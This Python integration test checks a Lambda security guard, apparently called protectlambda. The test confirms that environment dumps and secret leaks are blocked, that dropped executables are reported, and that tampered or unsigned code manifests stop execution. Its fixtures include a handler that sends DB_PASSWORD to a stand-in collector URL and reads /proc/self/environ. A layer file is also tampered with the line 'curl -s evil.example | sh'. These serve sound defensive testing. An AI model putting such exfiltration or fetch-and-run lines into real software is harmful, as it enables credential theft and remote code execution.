#!/usr/bin/env python3
"""Integrity and audit through the guard, with `protectlambda invoke` (emulator + guard as an
external extension + the Python runtime through the wrapper), as in Lambda:
  - a function returning os.environ, /proc/self/environ (plain or base64) or raising an error
    with a secret in it is denied at the exit (secret canaries), a clean one is not;
  - an executable dropped by the handler in a watched writable place is reported
    (RUNTIME_MODIFICATION);
  - a function whose code differs from its manifest, or whose manifest is unsigned while a key
    is configured, never runs (RUNTIME_INTEGRITY_VIOLATION).
No secret value appears in any output or log of the run (every captured byte is grepped)."""
import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile
import urllib.parse

PL = os.environ.get("PL_BIN") or os.path.join(os.environ.get("PL_BUILD_DIR", "build"),
                                              "src/cli/protectlambda")
FAILS = []
OUTPUTS = []
STORE = {}  # incident store of this test (isolated, and grepped for secrets too)

HANDLER = r'''
import base64, os, shutil, time

def handler(event, context):
    op = event.get("op")
    marker = os.environ.get("PL_TEST_MARKER")
    if marker:
        with open(marker, "a") as f:
            f.write(op + "\n")
    if op == "environ":
        return dict(os.environ)
    if op == "procenv":
        return open("/proc/self/environ", "rb").read().decode("latin-1")
    if op == "b64":
        return {"blob": base64.b64encode(open("/proc/self/environ", "rb").read()).decode()}
    if op == "url":
        import urllib.parse
        return {"next": "https://collector.example/?d=" + urllib.parse.quote(os.environ["DB_PASSWORD"], safe="")}
    if op == "error":
        raise RuntimeError("cannot connect with " + os.environ["DB_PASSWORD"])
    if op == "load":
        import ctypes
        p = os.path.join(event["dir"], "libhelper.so")
        shutil.copy("/lib/x86_64-linux-gnu/libutil.so.1", p)
        ctypes.CDLL(p)
        time.sleep(1.5)
        return {"loaded": True}
    if op == "drop":
        p = os.path.join(event["dir"], "payload")
        shutil.copy("/bin/true", p)
        os.chmod(p, 0o755)
        time.sleep(1.5)
        return {"dropped": True}
    return {"ok": 1}
'''

SECRETS = {
    "AWS_ACCESS_KEY_ID": "ASIA" + "Y3KQ7ZPLM2NX4RWT",
    "AWS_SECRET_ACCESS_KEY": "Jx9" + "kQ2v8Zr+Xw4yTb6NmP1sLd9Hf3Gj7Uc5Ve0R",
    "AWS_SESSION_TOKEN": "IQoJb3JpZ2luX2Vj" + "EJr" + "B" * 40 + "yY8/+" * 40,
    "DB_PASSWORD": "hunter2/" + "correct horse&battery",
    "GITHUB_TOKEN": "ghp_" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAB7c",
}


def check(cond, what, detail=""):
    if cond:
        print("ok  ", what)
    else:
        FAILS.append(what)
        print("FAIL", what, detail[-3000:] if detail else "")


def invoke(fdir, events, extra_env=None, timeout=90):
    tmp = tempfile.mkdtemp(prefix="pl-ev-")
    args = [PL, "invoke", "--function", fdir, "--handler", "app.handler", "--timeout", "20"]
    for i, e in enumerate(events):
        path = os.path.join(tmp, "e%d.json" % i)
        with open(path, "w") as f:
            json.dump(e, f)
        args += ["--event", path]
    env = dict(os.environ)
    env.update(SECRETS)
    env["PYTHONDONTWRITEBYTECODE"] = "1"  # /var/task is read-only in Lambda: no __pycache__
    if STORE.get("path"):
        env["PROTECTLAMBDA_STORE_PATH"] = STORE["path"]
    env.update(extra_env or {})
    try:
        p = subprocess.run(args, capture_output=True, text=True, env=env, timeout=timeout)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    OUTPUTS.append(p.stdout)
    OUTPUTS.append(p.stderr)
    return p


def function_dir(root, name):
    d = os.path.join(root, name)
    os.makedirs(d)
    with open(os.path.join(d, "app.py"), "w") as f:
        f.write(HANDLER)
    return d


def canaries_and_tamper(root):
    fdir = function_dir(root, "fn")
    watch = os.path.join(root, "watch")
    os.makedirs(watch)
    marker = os.path.join(root, "ran.txt")
    events = [{"op": "ok"}, {"op": "environ"}, {"op": "procenv"}, {"op": "b64"}, {"op": "url"},
              {"op": "error"}, {"op": "drop", "dir": watch}, {"op": "load", "dir": watch},
              {"op": "ok"}]
    p = invoke(fdir, events, {"PROTECTLAMBDA_INTEGRITY_TAMPER_DIRS": watch,
                              "PROTECTLAMBDA_INTEGRITY_TAMPER_INTERVAL_MS": "200",
                              "PL_TEST_MARKER": marker})
    lines = p.stdout.splitlines()
    log = p.stderr
    check(len(lines) == len(events), "one response line per event (%d)" % len(lines),
          p.stdout + log)
    if len(lines) != len(events):
        return
    check(json.loads(lines[0]) == {"ok": 1}, "clean response passes", lines[0])
    for i, what in [(1, "os.environ"), (2, "/proc/self/environ"), (3, "base64 of environ"),
                    (4, "URL-encoded password"), (5, "error with the password")]:
        check("Security Violation" in lines[i], "%s leak denied at the exit" % what, lines[i])
    check(json.loads(lines[6]) == {"dropped": True}, "drop handler answered", lines[6])
    check(json.loads(lines[7]) == {"loaded": True}, "load handler answered", lines[7])
    check(json.loads(lines[8]) == {"ok": 1}, "later clean response passes", lines[8])
    check("PL-CANARY-" in log and "Out Rule violation for PL-CANARY-" in log,
          "deny logged with a PL-CANARY-<VAR> rule id", log)
    check("PL-CANARY-DB_PASSWORD" in log, "the leaked variable is named", log)
    check("SECRET_EXPOSURE" in log, "category SECRET_EXPOSURE", log)
    check("PLAINTEXT_SECRET" in log and "GITHUB_TOKEN" in log,
          "environment audit at cold start (PLAINTEXT_SECRET by name)", log)
    ev = [l for l in log.splitlines() if "RUNTIME_MODIFICATION" in l and "/payload" in l]
    check(len(ev) >= 1, "dropped executable reported as RUNTIME_MODIFICATION", log)
    check("tamper watch: runtime is pid" in log, "the tamper watch found the runtime process", log)
    ev = [l for l in log.splitlines() if '"component":"guard"' in l and "PL-TAMPER-WRITABLE-LIB" in l
          and '"type":"RUNTIME_MODIFICATION"' in l and "libhelper.so" in l]
    check(len(ev) == 1, "library loaded from a writable place reported once", log)
    ran = open(marker).read().split() if os.path.exists(marker) else []
    check(ran == [e["op"] for e in events], "the handler ran for every event", " ".join(ran))


def example_env_dump():
    """the example function of the repository, unchanged (examples/functions/env-dump)"""
    src = os.environ.get("PL_SOURCE_DIR") or os.path.dirname(os.path.dirname(os.path.dirname(
        os.path.dirname(os.path.abspath(__file__)))))
    fdir = os.path.join(src, "examples", "functions", "env-dump")
    p = invoke(fdir, [{}, {"source": "proc"}], {"PROTECTLAMBDA_INTEGRITY_TAMPER_WATCH": "false"})
    lines = p.stdout.splitlines()
    check(len(lines) == 2 and all("Security Violation" in l for l in lines),
          "examples/functions/env-dump: os.environ and /proc/self/environ dumps denied",
          p.stdout + p.stderr)
    check("Out Rule violation for PL-CANARY-AWS_" in p.stderr,
          "the injected AWS credentials are canaries", p.stderr)


STREAM_RUNTIME = r'''
import http.client, json, os, time
api = os.environ["AWS_LAMBDA_RUNTIME_API"]
host, _, port = api.rpartition(":")
while True:
    c = http.client.HTTPConnection(host, int(port))
    c.request("GET", "/2018-06-01/runtime/invocation/next")
    r = c.getresponse()
    event = json.loads(r.read() or b"{}")
    rid = r.headers["Lambda-Runtime-Aws-Request-Id"]
    secret = os.environ["DB_PASSWORD"] if event.get("leak") else "nothing-to-see-here-at-all"
    half = len(secret) // 2
    chunks = [b'{"part1":"' + secret[:half].encode(), secret[half:].encode() + b'","n":1}']
    def body():
        for ch in chunks:
            yield ch
            time.sleep(0.05)
    c.request("POST", "/2018-06-01/runtime/invocation/%s/response" % rid, body=body(),
              headers={"Lambda-Runtime-Function-Response-Mode": "streaming",
                       "Content-Type": "application/json"}, encode_chunked=True)
    c.getresponse().read()
'''


def streaming(root):
    """a streamed response: the secret split across two chunks is still found (the guard's
    stream window), and the stream is cut before its second half leaves"""
    fdir = os.path.join(root, "stream-fn")
    os.makedirs(fdir)
    rt = os.path.join(fdir, "stream_runtime.py")
    with open(rt, "w") as f:
        f.write(STREAM_RUNTIME)
    tmp = tempfile.mkdtemp(prefix="pl-ev-")
    evs = []
    for i, e in enumerate([{"leak": False}, {"leak": True}]):
        path = os.path.join(tmp, "e%d.json" % i)
        with open(path, "w") as f:
            json.dump(e, f)
        evs += ["--event", path]
    env = dict(os.environ)
    env.update(SECRETS)
    env["PROTECTLAMBDA_INTEGRITY_TAMPER_WATCH"] = "false"
    if STORE.get("path"):
        env["PROTECTLAMBDA_STORE_PATH"] = STORE["path"]
    p = subprocess.run([PL, "invoke", "--function", fdir, "--handler", "x.handler",
                        "--runtime", "%s %s" % (sys.executable, rt), "--timeout", "20"] + evs,
                       capture_output=True, text=True, env=env, timeout=90)
    shutil.rmtree(tmp, ignore_errors=True)
    OUTPUTS.append(p.stdout)
    OUTPUTS.append(p.stderr)
    lines = p.stdout.splitlines()
    check(len(lines) >= 1 and "nothing-to-see-here-at-all" in lines[0],
          "clean streamed response passes", p.stdout + p.stderr)
    check("Out Rule violation for PL-CANARY-DB_PASSWORD" in p.stderr,
          "secret split across stream chunks detected", p.stderr)
    second_half = SECRETS["DB_PASSWORD"][len(SECRETS["DB_PASSWORD"]) // 2:]
    check(second_half not in p.stdout, "the stream is cut before the secret completes", p.stdout)


def manifests(root):
    fdir = function_dir(root, "signed-fn")
    marker = os.path.join(root, "ran-signed.txt")
    keys = os.path.join(root, "keys")
    os.makedirs(keys)
    subprocess.run([PL, "manifest", "keygen", "-o", os.path.join(keys, "pl")], check=True,
                   capture_output=True)
    mf = os.path.join(fdir, "protectlambda.manifest")
    subprocess.run([PL, "manifest", fdir, "-o", mf, "--sign", os.path.join(keys, "pl.key")],
                   check=True, capture_output=True)
    env = {"PROTECTLAMBDA_INTEGRITY_PUBKEY": os.path.join(keys, "pl.pub"),
           "PROTECTLAMBDA_INTEGRITY_TAMPER_WATCH": "false", "PL_TEST_MARKER": marker}
    p = invoke(fdir, [{"op": "ok"}], env)
    check(p.stdout.strip() == '{"ok": 1}' or json.loads(p.stdout.splitlines()[0]) == {"ok": 1},
          "signed manifest verified: invocation runs", p.stdout + p.stderr)
    check("function code verified" in p.stderr, "cold start logs the verification", p.stderr)
    # the code changes after the manifest was made (e.g. a poisoned deployment)
    with open(os.path.join(fdir, "app.py"), "a") as f:
        f.write("\nimport os  # injected\n")
    os.unlink(marker)
    p = invoke(fdir, [{"op": "ok"}], env)
    check("RUNTIME_INTEGRITY_VIOLATION" in p.stderr and "app.py" in p.stderr,
          "changed code: RUNTIME_INTEGRITY_VIOLATION naming the file", p.stderr)
    check(not os.path.exists(marker), "changed code: the handler never runs")
    # denied by the guard (deny answer), or the sandbox ended by the CRITICAL playbook
    # (terminate): either way the function's answer never leaves
    check('"ok"' not in p.stdout, "changed code: invocation denied", p.stdout + p.stderr)
    # an unsigned manifest while a key is configured
    subprocess.run([PL, "manifest", fdir, "-o", mf], check=True, capture_output=True)
    p = invoke(fdir, [{"op": "ok"}], env)
    check("RUNTIME_INTEGRITY_VIOLATION" in p.stderr and "not signed" in p.stderr,
          "unsigned manifest with a key configured refused", p.stderr)
    check(not os.path.exists(marker), "unsigned manifest: the handler never runs")
    # the layer: a valid signed code manifest again, and a layer file changed after the build
    subprocess.run([PL, "manifest", fdir, "-o", mf, "--sign", os.path.join(keys, "pl.key")],
                   check=True, capture_output=True)
    layer = os.path.join(root, "opt-protectlambda")
    os.makedirs(os.path.join(layer, "bin"))
    with open(os.path.join(layer, "bin", "tool"), "w") as f:
        f.write("#!/bin/sh\necho tool\n")
    lmf = os.path.join(layer, "layer.manifest")
    subprocess.run([PL, "manifest", layer, "-o", lmf], check=True, capture_output=True)
    env.update({"PROTECTLAMBDA_INTEGRITY_LAYER_MANIFEST": lmf,
                "PROTECTLAMBDA_INTEGRITY_LAYER_DIR": layer})
    p = invoke(fdir, [{"op": "ok"}], env)
    check("layer verified" in p.stderr and os.path.exists(marker),
          "layer verified at cold start, invocation runs", p.stderr)
    os.unlink(marker)
    with open(os.path.join(layer, "bin", "tool"), "a") as f:
        f.write("curl -s evil.example | sh\n")
    p = invoke(fdir, [{"op": "ok"}], env)
    check("layer differs from its manifest" in p.stderr and "bin/tool" in p.stderr,
          "changed layer: RUNTIME_INTEGRITY_VIOLATION naming the file", p.stderr)
    check(not os.path.exists(marker), "changed layer: the handler never runs")


def main():
    root = tempfile.mkdtemp(prefix="pl-integrity-guard-")
    # a precompiled rules database makes every cold start fast (as in the layer)
    db = os.path.join(root, "rules.db")
    c = subprocess.run([PL, "compile", "-o", db], capture_output=True, text=True,
                       timeout=300)
    if c.returncode == 0:
        os.environ["PROTECTLAMBDA_RULES_DB"] = db
    else:
        print("(rules not precompiled: %s)" % c.stderr.strip()[-300:])
    STORE["path"] = os.path.join(root, "store", "incidents.db")
    os.makedirs(os.path.dirname(STORE["path"]))
    try:
        canaries_and_tamper(root)
        example_env_dump()
        streaming(root)
        manifests(root)
        # what the guard wrote to disk: the incident store (and its journal files)
        stored = []
        for name in os.listdir(os.path.dirname(STORE["path"])):
            with open(os.path.join(os.path.dirname(STORE["path"]), name), "rb") as f:
                stored.append(f.read().decode("latin-1"))
        OUTPUTS.extend(stored)
        check(any("PL-CANARY-" in o for o in stored),
              "the incident store records the canary denials (and is grepped below)")
    finally:
        shutil.rmtree(root, ignore_errors=True)
    blob = "\n".join(OUTPUTS)
    for name, value in SECRETS.items():
        forms = {value, base64.b64encode(value.encode()).decode(),
                 urllib.parse.quote(value, safe=""), json.dumps(value)[1:-1]}
        check(not any(f in blob for f in forms),
              "no output or log contains the value of %s (plain, base64, url, json)" % name)
    if FAILS:
        print("%d failure(s)" % len(FAILS))
        return 1
    print("all passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
